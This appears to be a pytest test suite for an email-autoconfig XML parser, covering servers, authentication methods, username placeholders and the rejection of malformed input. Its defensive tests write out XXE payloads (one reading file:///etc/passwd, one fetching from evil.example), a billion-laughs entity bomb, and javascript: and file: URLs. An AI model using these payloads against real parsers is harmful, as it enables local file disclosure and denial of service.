from collections.abc import Iterable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.model.mail import Authentication, Incoming, IncomingProtocol, Outgoing
from assistant.model.net import Security
from assistant.wire.autoconfig import (
    MAX_OCTETS,
    Autoconfig,
    AutoconfigIncoming,
    AutoconfigOutgoing,
    BadAutoconfigError,
    parse_autoconfig,
)

ADDRESS = "Anna.Rossi@proseware.com"


def out(host: str = "smtp.proseware.com", port: str = "587", socket: str = "STARTTLS", inner: str = "") -> str:
    inner = inner or "<username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>"
    return (
        f'<outgoingServer type="smtp"><hostname>{host}</hostname><port>{port}</port>'
        f"<socketType>{socket}</socketType>{inner}</outgoingServer>"
    )


def incoming(kind: str, port: int, inner: str) -> str:
    return (
        f'<incomingServer type="{kind}"><hostname>{kind}.proseware.com</hostname><port>{port}</port>'
        f"<socketType>SSL</socketType>{inner}</incomingServer>"
    )


def document(*servers: str, beside: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<clientConfig version="1.1"><emailProvider id="proseware.com">'
        f"<domain>Proseware.com</domain><displayName>Proseware Mail</displayName>{''.join(servers)}</emailProvider>"
        f"{beside}</clientConfig>"
    ).encode()


def parse(*servers: str, beside: str = "") -> Autoconfig:
    return parse_autoconfig(document(*servers, beside=beside), ADDRESS)


def ways(found: Autoconfig) -> list[tuple[int, Authentication, str | None]]:
    return [(way.outgoing.port, way.outgoing.authentication, way.outgoing.username) for way in found.outgoing]


def test_a_whole_document() -> None:
    password = "<username>%EMAILLOCALPART%</username><authentication>password-cleartext</authentication>"
    found = parse(
        incoming("pop3", 995, password),
        incoming("imap", 993, "<authentication>OAuth2</authentication>"),
        incoming("exchange", 443, password),
        out("SMTP.%EMAILDOMAIN%.", "465", "SSL"),
        beside='<webMail><loginPage url="https://webmail.proseware.com/"/></webMail>',
    )
    assert found == Autoconfig(
        domains=("proseware.com",),
        display_name="Proseware Mail",
        outgoing=(
            AutoconfigOutgoing(
                outgoing=Outgoing(
                    host="smtp.proseware.com",
                    port=465,
                    security=Security.TLS,
                    authentication=Authentication.PASSWORD,
                    username=ADDRESS,
                ),
                username_known=True,
            ),
        ),
        incoming=(
            AutoconfigIncoming(
                incoming=Incoming(
                    protocol=IncomingProtocol.POP3,
                    host="pop3.proseware.com",
                    port=995,
                    security=Security.TLS,
                    username="Anna.Rossi",
                ),
                username_known=True,
                authentication=Authentication.PASSWORD,
            ),
            AutoconfigIncoming(
                incoming=Incoming(
                    protocol=IncomingProtocol.IMAP, host="imap.proseware.com", port=993, security=Security.TLS
                ),
                username_known=False,
                authentication=Authentication.OAUTH2,
            ),
        ),
        webmail="https://webmail.proseware.com/",
    )


def test_servers_and_mechanisms_in_order_of_preference() -> None:
    both = (
        "<username>%EMAILADDRESS%</username><authentication>OAuth2</authentication>"
        "<authentication>password-cleartext</authentication><authentication>password-encrypted</authentication>"
    )
    assert ways(parse(out(port="465", socket="SSL", inner=both), out())) == [
        (465, Authentication.OAUTH2, ADDRESS),
        (465, Authentication.PASSWORD, ADDRESS),
        (587, Authentication.PASSWORD, ADDRESS),
    ]


@pytest.mark.parametrize(
    ("word", "authentication", "network_only"),
    [
        ("password-cleartext", Authentication.PASSWORD, False),
        ("plain", Authentication.PASSWORD, False),
        ("password-encrypted", Authentication.PASSWORD, False),
        ("secure", Authentication.PASSWORD, False),
        ("OAuth2", Authentication.OAUTH2, False),
        ("smtp-after-pop", Authentication.POP_FIRST, False),
        ("client-IP-address", Authentication.NONE, True),
        ("none", Authentication.NONE, False),
    ],
)
def test_authentication_words(word: str, authentication: Authentication, network_only: bool) -> None:
    (way,) = parse(
        out(inner=f"<username>u</username><authentication> {word} </authentication>"),
    ).outgoing
    assert (way.outgoing.authentication, way.network_only) == (authentication, network_only)
    logs_in = authentication in {Authentication.PASSWORD, Authentication.OAUTH2}
    assert (way.outgoing.username, way.username_known) == (("u", True) if logs_in else (None, False))


def test_a_restriction_to_the_providers_network() -> None:
    inner = "<restriction>clientIPAddress</restriction><username>u</username><authentication>plain</authentication>"
    assert parse(out(inner=inner)).outgoing[0].network_only


@pytest.mark.parametrize(
    ("word", "authentication"),
    [
        ("PLAIN", Authentication.PASSWORD),
        ("SCRAM-SHA-256", Authentication.PASSWORD),
        ("XOAUTH2", Authentication.OAUTH2),
    ],
)
def test_sasl_names(word: str, authentication: Authentication) -> None:
    inner = f'<username>u</username><authentication system="sasl">{word}</authentication>'
    assert parse(out(inner=inner)).outgoing[0].outgoing.authentication is authentication


@pytest.mark.parametrize(
    "inner",
    [
        "<username>u</username>",
        "<authentication>NTLM</authentication>",
        "<authentication>GSSAPI</authentication>",
        "<authentication>TLS-client-cert</authentication>",
        "<authentication></authentication>",
        '<authentication system="sasl">password-cleartext</authentication>',
        "<authentication><b>plain</b></authentication>",
    ],
)
def test_what_cannot_be_spoken_is_left_out(inner: str) -> None:
    assert parse(out(inner=inner), out(port="25")).outgoing[0].outgoing.port == 25


@pytest.mark.parametrize(
    ("form", "name"),
    [
        ("%EMAILADDRESS%", ADDRESS),
        ("%EMAILLOCALPART%", "Anna.Rossi"),
        ("%EMAILDOMAIN%", "proseware.com"),
        ("%EMAILLOCALPART%+smtp@%EMAILDOMAIN%", "Anna.Rossi+smtp@proseware.com"),
        ("PROSE\\%EMAILLOCALPART%", "PROSE\\Anna.Rossi"),
        ("fixed", "fixed"),
        ("%REALNAME%", None),
        ("", None),
        ("a\nb", None),
        ("x" * 400, None),
    ],
)
def test_log_in_names(form: str, name: str | None) -> None:
    (way,) = parse(out(inner=f"<username>{form}</username><authentication>plain</authentication>")).outgoing
    assert (way.outgoing.username, way.username_known) == (name, name is not None)


@pytest.mark.parametrize("address", ["", "no-at", "a@b@c", "two words@x", "x" * 100 + "@y", "a\nb@c"])
def test_without_an_address_no_name_is_made_up(address: str) -> None:
    (way,) = parse_autoconfig(document(out()), address).outgoing
    assert (way.outgoing.username, way.username_known) == (None, False)


@pytest.mark.parametrize(
    "server",
    [
        out(host=""),
        out(host="smtp..proseware.com"),
        out(host="-smtp.proseware.com"),
        out(host="smtp proseware.com"),
        out(host="x" * 64 + ".com"),
        out(host="a." * 130 + "com"),
        out(host="%MXFULLDOMAIN%"),
        out(host="smtp.proseware.com\u0000".replace("\u0000", "&#10;x")),
        out(port=""),
        out(port="0"),
        out(port="65536"),
        out(port="-1"),
        out(port="５８７"),
        out(port="58７"),
        out(port="9" * 50),
        out(socket=""),
        out(socket="TLS-maybe"),
        '<outgoingServer type="exchange"/>',
        "<outgoingServer/>",
        "<outgoingServer><hostname/><port/><socketType/></outgoingServer>",
    ],
)
def test_a_server_that_makes_no_sense_costs_only_itself(server: str) -> None:
    assert ways(parse(server, out())) == [(587, Authentication.PASSWORD, ADDRESS)]


@pytest.mark.parametrize(
    ("host", "kept"), [("192.0.2.25", "192.0.2.25"), ("[2001:DB8::25]", "2001:db8::25"), ("mail", "mail")]
)
def test_hosts(host: str, kept: str) -> None:
    assert parse(out(host=host)).outgoing[0].outgoing.host == kept


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://webmail.proseware.com/?a=b", True),
        ("http://webmail.proseware.com/", True),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("https://user:pass@webmail.proseware.com/", False),
        ("https://webmail.proseware.com/ x", False),
        ("https://x/" + "y" * 3000, False),
        ("", False),
    ],
)
def test_webmail(url: str, kept: bool) -> None:
    found = parse(beside=f'<webMail><loginPage url="{url}"/></webMail>')
    assert found.webmail == (url if kept else None)


def test_counts_are_bounded() -> None:
    found = parse(*[out()] * 200, *[incoming("imap", 993, "<authentication>plain</authentication>")] * 200)
    assert (len(found.outgoing), len(found.incoming)) == (16, 16)


def test_a_namespace_prefix_does_no_harm() -> None:
    text = document(out()).decode().replace("<clientConfig", '<c:clientConfig xmlns:c="urn:x"')
    text = text.replace("</clientConfig", "</c:clientConfig")
    assert len(parse_autoconfig(text.encode(), ADDRESS).outgoing) == 1


ENTITY = '<!DOCTYPE c [<!ENTITY x "y">]>'
BILLION = "<!DOCTYPE c [" + '<!ENTITY a "aaaaaaaaaa">' + '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">' * 9 + "]>"
EXTERNAL = '<!DOCTYPE c SYSTEM "file:///etc/passwd">'
PARAMETER = '<!DOCTYPE c [<!ENTITY % e SYSTEM "http://evil.example/x"> %e;]>'


@pytest.mark.parametrize("declaration", [ENTITY, BILLION, EXTERNAL, PARAMETER, "<!DOCTYPE c>"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le-bom", "latin-1"])
def test_a_document_type_declaration_is_refused_in_any_encoding(declaration: str, encoding: str) -> None:
    name = "utf-16" if encoding.startswith("utf-16") else encoding
    text = f'<?xml version="1.0" encoding="{name}"?>{declaration}<clientConfig><emailProvider/></clientConfig>'
    data = b"\xff\xfe" + text.encode("utf-16-le") if encoding == "utf-16-le-bom" else text.encode(name)
    with pytest.raises(BadAutoconfigError, match="document type declaration"):
        parse_autoconfig(data, ADDRESS)


def bad() -> Iterable[bytes]:
    yield b""
    yield b" " * 10
    yield b"<html><body>Sign in to the portal</body></html>"
    yield b"<clientConfig>"
    yield b"<clientConfig/>"
    yield b"<emailProvider/>"
    yield b"\xff\xfe\x00"
    yield b"\0" * 100
    yield b"<clientConfig>" * 10_000
    yield b"<clientConfig><emailProvider>" + b"<a>" * 40 + b"</a>" * 40 + b"</emailProvider></clientConfig>"
    yield b"<clientConfig><emailProvider>" + b"<a/>" * 6000 + b"</emailProvider></clientConfig>"
    yield document(out()) + b" " * MAX_OCTETS
    yield document(out()) + b"<again/>"
    yield b'<?xml version="1.0" encoding="nonsense"?><clientConfig><emailProvider/></clientConfig>'
    yield b'<?xml version="1.0" encoding="utf-7"?>+ADw-clientConfig/+AD4-'
    yield b"<clientConfig><emailProvider>&x;</emailProvider></clientConfig>"
    yield b'{"json": true}'


@pytest.mark.parametrize("data", list(bad()), ids=range(len(list(bad()))))
def test_what_is_no_such_document_is_refused(data: bytes) -> None:
    with pytest.raises(BadAutoconfigError):
        parse_autoconfig(data, ADDRESS)


@given(st.binary(max_size=400))
def test_octets_never_break_it(data: bytes) -> None:
    try:
        parse_autoconfig(data, ADDRESS)
    except BadAutoconfigError as error:
        assert str(error)


@given(st.integers(0, 800), st.binary(min_size=1, max_size=4))
def test_a_damaged_document_never_breaks_it(at: int, junk: bytes) -> None:
    whole = document(out(), incoming("pop3", 995, "<authentication>plain</authentication>"))
    try:
        found = parse_autoconfig(whole[:at] + junk + whole[at + len(junk) :], ADDRESS)
    except BadAutoconfigError:
        return
    assert all(1 <= way.outgoing.port <= 65535 for way in found.outgoing)
